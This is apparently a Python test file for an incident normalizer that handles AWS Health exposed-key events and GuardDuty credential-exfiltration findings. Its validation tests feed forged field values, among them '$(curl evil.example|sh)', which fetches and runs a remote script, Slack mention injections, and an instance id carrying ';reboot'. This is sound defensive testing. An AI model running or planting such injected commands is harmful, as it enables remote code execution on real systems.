"""The normalizer on every bundled sample event, and on the shapes real accounts also see."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from incident.model import IntakeStatus, Kind
from incident.normalize import normalize

EVENTS = Path(__file__).resolve().parent.parent / "events"


def load(name: str) -> dict:
    return json.loads((EVENTS / name).read_text())


EXPECTED_IGNORED = {
    "guardduty_exfil_inside_SAMPLE_finding.json": "sample-finding",
    "guardduty_exfil_outside_SAMPLE_finding.json": "sample-finding",
    "guardduty_ignore_anomalous_behavior_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_canary_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_ec2_backdoor_dns_SAMPLE.json": "unsupported-finding-type",
    "guardduty_ignore_no_resource_SAMPLE_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_no_resource_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_recon_archived_SAMPLE_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_root_credential_usage_body_only.json": "not-an-event-envelope",
    "guardduty_ignore_tor_caller_SAMPLE.json": "unsupported-finding-type",
    "health_ignore_ec2_instance_store_degraded.json": "not-a-credential-event",
    "health_ignore_ec2_retirement_scheduled.json": "not-a-credential-event",
    "health_ignore_malformed_no_entities.json": "not-a-credential-event",
}


def test_every_bundled_event_is_classified() -> None:
    names = {path.name for path in EVENTS.glob("*.json")}
    accepted = {
        "health_exposed_key_classic.json",
        "health_exposed_key_2025_event_metadata.json",
        "health_exposed_key_new_arn_layout.json",
        "guardduty_exfil_outside_realistic.json",
    }
    assert names == set(EXPECTED_IGNORED) | accepted


@pytest.mark.parametrize("name,reason", sorted(EXPECTED_IGNORED.items()))
def test_ignored_events_have_a_named_reason(name: str, reason: str) -> None:
    intake = normalize(load(name))
    assert intake.status == IntakeStatus.IGNORED
    assert intake.incident is None
    assert intake.reason.startswith(reason + ":")


# Public Health samples carry placeholder key ids; only a deployment that accepts samples takes them.
PLACEHOLDER_KEYS = {
    "health_exposed_key_classic.json": "ACCESS_KEY_ID_HERE",
    "health_exposed_key_new_arn_layout.json": "ACCESS_KEY_ID_HERE",
    "health_exposed_key_2025_event_metadata.json": "AKIAXXXXXXXXXX",
}


@pytest.mark.parametrize("name", sorted(PLACEHOLDER_KEYS))
def test_placeholder_key_ids_are_not_access_keys(name: str) -> None:
    intake = normalize(load(name))
    assert intake.status == IntakeStatus.IGNORED
    assert intake.reason.startswith("invalid-field: detail.affectedEntities[].entityValue is not an access key id")
    assert f"'{PLACEHOLDER_KEYS[name]}'" in intake.reason


def valid_2025_event() -> dict:
    """The 2025 sample with what its sanitising broke put back: 12-digit accounts, a real-shaped key."""
    event = load("health_exposed_key_2025_event_metadata.json")
    text = json.dumps(event).replace("AKIAXXXXXXXXXX", "AKIAIOSFODNN7EXAMPLE").replace('"1234567890"', '"123456789012"')
    return json.loads(text)


def test_classic_health_event() -> None:
    intake = normalize(load("health_exposed_key_classic.json"), accept_samples=True)
    incident = intake.incident
    assert intake.status == IntakeStatus.ACCEPTED and incident is not None
    assert incident.kind == Kind.EXPOSED_ACCESS_KEY
    assert incident.access_key_ids == ["ACCESS_KEY_ID_HERE"]
    assert incident.user_names == []
    assert incident.account == "123456789012"
    assert incident.region == "us-east-1"
    assert incident.first_seen == "2016-06-05T15:10:09Z"  # RFC 1123 startTime, converted
    assert incident.incident_id.startswith("123456789012:health:arn:aws:health:")


def test_2025_health_event_reads_key_and_user_from_event_metadata() -> None:
    incident = normalize(valid_2025_event()).incident
    assert incident is not None
    assert incident.access_key_ids == ["AKIAIOSFODNN7EXAMPLE"]  # in three places, once in the incident
    assert incident.user_names == ["test-1"]
    assert incident.exposed_url == "https://github.com/repository_name"
    # affectedAccount holds the key id in the sample: not an account, so it takes no part.
    assert incident.account == "123456789012"
    assert incident.delivered_to is None and incident.account_conflict is None
    assert incident.page == 1 and incident.total_pages == 1
    assert incident.incident_id == "123456789012:health:acf0ec863d311e61f725cc6ba09b94d9798e78869a17"


def test_the_sanitised_10_digit_accounts_are_not_accounts() -> None:
    # Deliberately changed: the sample's 10-digit ids used to be taken as its account.
    intake = normalize(load("health_exposed_key_2025_event_metadata.json"), accept_samples=True)
    assert intake.status == IntakeStatus.IGNORED
    assert intake.reason == "invalid-field: account is not a 12-digit account id (got '1234567890')"


def test_organizational_view_names_the_member_account_not_the_receiver() -> None:
    event = valid_2025_event()
    event["detail"]["affectedAccount"] = event["detail"]["eventMetadata"]["accountId"] = "210987654321"
    incident = normalize(event).incident
    assert incident is not None
    assert incident.account == "210987654321"
    assert incident.delivered_to == "123456789012"
    assert incident.account_conflict == ("detail.affectedAccount names account 210987654321, but account 123456789012")
    assert incident.incident_id.startswith("210987654321:health:")


def test_detail_fields_that_disagree_are_a_conflict() -> None:
    event = valid_2025_event()
    event["detail"]["affectedAccount"] = "210987654321"
    incident = normalize(event).incident
    assert incident is not None and incident.account == "210987654321"
    assert "detail.eventMetadata.accountId 123456789012" in (incident.account_conflict or "")


def test_guardduty_member_finding_names_the_member_account() -> None:
    event = load("guardduty_exfil_outside_realistic.json")
    event["account"] = "999988887777"  # the delegated administrator that received it
    incident = normalize(event).incident
    assert incident is not None
    assert incident.account == "111122223333" and incident.delivered_to == "999988887777"
    assert incident.account_conflict == "detail.accountId names account 111122223333, but account 999988887777"


def test_each_page_of_a_health_event_is_its_own_incident() -> None:
    first = valid_2025_event()
    first["detail"]["totalPages"] = "2"
    second = copy.deepcopy(first)
    second["id"] = "another-envelope-id"
    second["detail"]["page"] = "2"
    second["detail"]["affectedEntities"] = [{"entityValue": "AKIAIOSFODNN7EXAMPL2"}]
    second["resources"] = ["AKIAIOSFODNN7EXAMPL2"]
    second["detail"]["eventMetadata"]["publicKey"] = "AKIAIOSFODNN7EXAMPL2"
    one, two = normalize(first).incident, normalize(second).incident
    assert one is not None and two is not None
    assert one.incident_id != two.incident_id
    assert one.incident_id.endswith(":page-1") and two.incident_id.endswith(":page-2")
    assert two.access_key_ids == ["AKIAIOSFODNN7EXAMPL2"]
    # The backup-region copy of a page is the same delivery.
    backup = copy.deepcopy(second)
    backup["region"], backup["id"] = "us-west-2", "backup-envelope-id"
    assert normalize(backup).incident.incident_id == two.incident_id  # type: ignore[union-attr]


FORGED = "ci<!channel> *bold*\n$(curl evil.example|sh)"


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("detail", "eventMetadata", "userName"), FORGED, "detail.eventMetadata.userName"),
        (("detail", "eventMetadata", "userName"), "a" * 65, "detail.eventMetadata.userName"),
        (("detail", "eventMetadata", "userName"), "jos\u00e9", "detail.eventMetadata.userName"),
        (("account",), "12345678901<!here>", "account"),
        (("region",), "us-east-1\n*x*", "region"),
        (("region",), "global", "region"),
        (("detail", "page"), "1<!channel>", "detail.page"),
        (("detail", "affectedEntities"), [{"entityValue": "akiaiosfodnn7example"}], "detail.affectedEntities"),
        (("detail", "affectedEntities"), [{"entityValue": "AKIA<!channel>EXAMPLE0"}], "detail.affectedEntities"),
    ],
)
def test_health_fields_aws_would_never_send_are_ignored_naming_the_field(path, value, field) -> None:
    event = valid_2025_event()
    if path[-1] == "affectedEntities":
        event["resources"], event["detail"]["eventMetadata"]["publicKey"] = [], None
    target = event
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    intake = normalize(event)
    assert intake.status == IntakeStatus.IGNORED and intake.incident is None
    assert intake.reason.startswith(f"invalid-field: {field}"), intake.reason
    for raw in ("<", ">", "\n", "*", "$(", "|"):
        assert raw not in intake.reason


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("resource", "accessKeyDetails", "userName"), FORGED, "detail.resource.accessKeyDetails.userName"),
        (("resource", "accessKeyDetails", "userName"), "r" * 65, "detail.resource.accessKeyDetails.userName"),
        (
            ("resource", "accessKeyDetails", "accessKeyId"),
            "GeneratedFindingAccessKeyId",
            "detail.resource.accessKeyDetails.accessKeyId",
        ),
        (("resource", "instanceDetails", "instanceId"), "i-0abc;reboot", "detail.resource.instanceDetails.instanceId"),
        (("accountId",), "11112222333", "account"),
    ],
)
def test_guardduty_fields_aws_would_never_send_are_ignored_naming_the_field(path, value, field) -> None:
    event = load("guardduty_exfil_outside_realistic.json")
    if path == ("accountId",):
        event["account"] = value
    target = event["detail"]
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    intake = normalize(event)
    assert intake.status == IntakeStatus.IGNORED, intake.reason
    assert intake.reason.startswith(f"invalid-field: {field}"), intake.reason
    for raw in ("<", ">", "\n", "*", "$("):
        assert raw not in intake.reason


def test_new_arn_layout_does_not_matter() -> None:
    incident = normalize(load("health_exposed_key_new_arn_layout.json"), accept_samples=True).incident
    assert incident is not None and incident.access_key_ids == ["ACCESS_KEY_ID_HERE"]


def test_several_keys_in_one_health_event_are_all_contained() -> None:
    event = load("health_exposed_key_classic.json")
    event["detail"]["affectedEntities"] = [
        {"entityValue": "AKIAAAAAAAAAAAAAAAA1"},
        {"entityValue": "AKIAAAAAAAAAAAAAAAA2"},
        {"entityValue": "AKIAAAAAAAAAAAAAAAA1"},
    ]
    incident = normalize(event).incident
    assert incident is not None
    assert incident.access_key_ids == ["AKIAAAAAAAAAAAAAAAA1", "AKIAAAAAAAAAAAAAAAA2"]


@pytest.mark.parametrize("code", ["AWS_RISK_IAM_QUARANTINE", "AWS_RISK_CREDENTIALS_COMPROMISE_SUSPECTED"])
def test_sibling_codes_are_credential_events(code: str) -> None:
    event = load("health_exposed_key_classic.json")
    event["detail"]["eventTypeCode"] = code
    assert normalize(event, accept_samples=True).status == IntakeStatus.ACCEPTED


def test_health_event_without_a_key_is_ignored() -> None:
    event = load("health_exposed_key_classic.json")
    event["detail"]["affectedEntities"] = []
    intake = normalize(event)
    assert intake.status == IntakeStatus.IGNORED and intake.reason.startswith("no-access-key:")
    event["detail"]["affectedEntities"] = [{"entityValue": "not a key id"}]
    intake = normalize(event)
    assert intake.status == IntakeStatus.IGNORED and intake.reason.startswith("invalid-field:")


def test_wrong_types_are_malformed_not_a_crash() -> None:
    event = load("health_exposed_key_classic.json")
    event["detail"]["affectedEntities"] = "ACCESS_KEY_ID_HERE"
    intake = normalize(event)
    assert intake.status == IntakeStatus.IGNORED and intake.reason.startswith("malformed-event:")


def test_realistic_exfiltration_finding() -> None:
    incident = normalize(load("guardduty_exfil_outside_realistic.json")).incident
    assert incident is not None
    assert incident.kind == Kind.INSTANCE_CREDENTIAL_EXFILTRATION
    assert incident.role_name == "web-app-role"
    assert incident.instance_id == "i-0f8e7d6c5b4a39281"
    assert incident.access_key_ids == ["ASIA4XKQ2EXAMPLE7Q3Z"]
    assert incident.finding_id == "c2c6f0f0a7d14c1e8d1b3e5f7a9b0c11"
    assert incident.account == "111122223333" and incident.region == "ap-northeast-1"
    assert incident.count == 1 and incident.severity == 8
    assert incident.remote is not None and incident.remote.ip == "81.2.69.144"
    assert [eni.network_interface_id for eni in incident.network_interfaces] == ["eni-0a1b2c3d4e5f60001"]
    assert incident.network_interfaces[0].security_group_ids == ["sg-0a1b2c3d4e5f60011"]
    assert incident.incident_id == "111122223333:guardduty:c2c6f0f0a7d14c1e8d1b3e5f7a9b0c11"


def test_inside_aws_sample_opted_in_carries_the_remote_account() -> None:
    intake = normalize(load("guardduty_exfil_inside_SAMPLE_finding.json"), accept_samples=True)
    assert intake.incident is not None and intake.incident.sample
    assert intake.incident.remote is not None
    assert intake.incident.remote.affiliated is False
    assert intake.incident.remote.account_id


def test_sample_finding_with_iam_user_type_has_no_role_name() -> None:
    # Samples say userType IAMUser / GeneratedFindingUserName even for instance credentials.
    incident = normalize(load("guardduty_exfil_outside_SAMPLE_finding.json"), accept_samples=True).incident
    assert incident is not None and incident.role_name is None and incident.instance_id


def test_archived_finding_is_ignored() -> None:
    event = load("guardduty_exfil_outside_realistic.json")
    event["detail"]["service"]["archived"] = True
    assert normalize(event).reason.startswith("archived-finding:")


def test_finding_without_role_name_still_names_the_instance() -> None:
    event = load("guardduty_exfil_outside_realistic.json")
    del event["detail"]["resource"]["accessKeyDetails"]["userName"]
    incident = normalize(event).incident
    assert incident is not None and incident.role_name is None and incident.instance_id == "i-0f8e7d6c5b4a39281"


def test_legacy_unsuffixed_finding_type_is_accepted() -> None:
    event = load("guardduty_exfil_outside_realistic.json")
    event["detail"]["type"] = "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration"
    assert normalize(event).status == IntakeStatus.ACCEPTED


def test_redelivery_keeps_the_same_incident_id() -> None:
    first = load("guardduty_exfil_outside_realistic.json")
    again = copy.deepcopy(first)
    again["id"] = "another-envelope-id"
    again["detail"]["service"]["count"] = 7
    assert normalize(first).incident.incident_id == normalize(again).incident.incident_id  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "event",
    [
        None,
        [],
        "text",
        42,
        {},
        {"source": "aws.health"},
        {"source": "aws.guardduty", "detail": None},
        {"source": "aws.health", "detail": {"affectedEntities": [None]}},
    ],
)
def test_garbage_never_raises(event: object) -> None:
    assert normalize(event).status == IntakeStatus.IGNORED
